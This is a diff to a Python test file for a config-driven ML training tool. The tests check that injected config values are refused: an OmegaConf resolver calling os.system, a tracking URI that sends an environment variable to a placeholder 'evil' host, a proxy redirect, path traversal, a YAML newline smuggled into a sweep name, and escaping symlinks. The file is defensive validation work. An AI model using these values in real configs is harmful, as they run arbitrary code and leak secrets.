@@ -140,8 +140,13 @@ def test_a_trusted_package_is_admitted_and_none_whose_name_only_begins_like_it()
         {"model": {"model_kwargs": {"attn_implementation": "somebody/kernels"}}},
         {"task": "${oc.create:{_target_: os.system}}"},
         {"tracking": {"uri": "http://evil/${oc.env:HOME}"}},
+        {"model": {"model_kwargs": {"cache_dir": "/elsewhere"}}},
+        {"model": {"tokenizer_kwargs": {"proxies": {"https": "http://evil"}}}},
     ],
-    ids=["remote code", "remote code of the tokenizer", "pickles", "kernels", "a created node", "the environment"],
+    ids=[
+        *("remote code", "remote code of the tokenizer", "pickles", "kernels", "a created node", "the environment"),
+        *("a folder elsewhere", "a proxy"),
+    ],
 )
 def test_other_ways_to_code_and_secrets_are_refused(config):
     with pytest.raises(InputError, match="which (would let files run code|is looked up elsewhere)"):
@@ -168,6 +173,11 @@ WORDS = {
     "options elsewhere": "metrics=[accuracy,../evil]",
     "a flag": "--config-dir=/tmp/evil",
     "remote code": "+model.model_kwargs.trust_remote_code=true",
+    "a reference that joins pieces": "+tracking.tags.x='${seed}${seed}'",
+    "a reference in a text": "tracking.run_name='of ${seed}'",
+    "a reference to what the user's options say": "+tracking.tags.x='${data.token}'",
+    "a reference to a part of the config": "+tracking.tags.x='${tracking}'",
+    "an escaped reference": "+tracking.tags.x='\\${oc.env:HOME}'",
 }
 
 
@@ -212,6 +222,56 @@ def test_the_journal_of_a_sweep_brings_no_code(work: Path):
     Ledger(folder).begin(name="first", argv=["-m", "seed=1,2", WORDS["a node"]], words=[], weights="scratch")
     with pytest.raises(InputError, match="first says .*os.system.* not among"):
         resuming.expand(["sweep.resume=first"])
+
+
+@pytest.mark.parametrize("name", ["${oc.env:HOME}", "a b", "a\nb: {_target_: os.system}", "../elsewhere"])
+def test_the_name_in_the_journal_of_a_sweep_is_but_a_name(work: Path, name: str):
+    folder = work / "multirun" / "first"
+    folder.mkdir(parents=True)
+    Ledger(folder).begin(name=name, argv=["-m", "seed=1,2"], words=[], weights="scratch")
+    with pytest.raises(InputError, match=r"of a sweep named '.*', which is no name of one"):
+        resuming.expand(["sweep.resume=first"])
+
+
+@pytest.mark.parametrize("weights", ["${oc.env:HOME}", "of mine", 3])
+def test_the_weights_in_the_journal_of_a_sweep_are_but_a_choice(work: Path, weights):
+    ledger = Ledger(work)
+    ledger.begin(name="first", argv=[], words=[], weights=weights)
+    with pytest.raises(InputError, match=r"weights=.*, which is none of auto, pretrained, scratch"):
+        check_unchanged(ledger, [], Space((), ()))
+
+
+def test_a_sweep_goes_on_in_its_own_folder_wherever_its_journal_says_it_is(work: Path):
+    folder = work / "multirun" / "first"
+    folder.mkdir(parents=True)
+    Ledger(folder).begin(
+        name="first", argv=["-m", "seed=1,2", "output_dir=elsewhere", "overwrite=true"], weights="auto"
+    )
+    words = resuming.expand(["sweep.resume=first"])
+    assert words == ["-m", "seed=1,2", "overwrite=true", "sweep.name=first", f"hydra.sweep.dir='{folder}'"]
+    folder.rename(work / "elsewhere")
+    assert "output_dir=elsewhere" in resuming.expand(["sweep.resume=elsewhere"])
+
+
+def test_a_folder_whose_name_would_be_looked_up_is_not_gone_on_with(work: Path):
+    folder = work / "${oc.env:HOME}"
+    folder.mkdir()
+    (folder / "overrides.yaml").write_text("[seed=3]")
+    with pytest.raises(InputError, match="in its name, which would be looked up elsewhere"):
+        resume.expand([f"resume={folder}"], find_run)
+    quote = folder.rename(work / "it's")
+    assert f"output_dir='{work}/it\\'s'" in resume.expand([f"resume={quote}"], find_run)
+
+
+@pytest.mark.parametrize("name", ["metrics.jsonl", "checkpoints", "deep/er"])
+def test_a_folder_with_links_that_lead_out_of_it_is_not_gone_on_with(work: Path, name: str):
+    (work / "out" / "deep").mkdir(parents=True)
+    (work / "out" / "overrides.yaml").write_text("[seed=3]")
+    (work / "out" / "within").symlink_to("overrides.yaml")
+    assert resume.expand(["resume=out"], find_run)
+    (work / "out" / name).symlink_to(work / "elsewhere")
+    with pytest.raises(InputError, match=rf"{name} is a link to .*elsewhere, out of the folder"):
+        resume.expand(["resume=out"], find_run)
 
 
 @pytest.mark.parametrize("point", [{"seed": "3"}, {"schedule": SYSTEM_WORD}, {"optimizer.lr": SYSTEM_WORD}], ids=str)
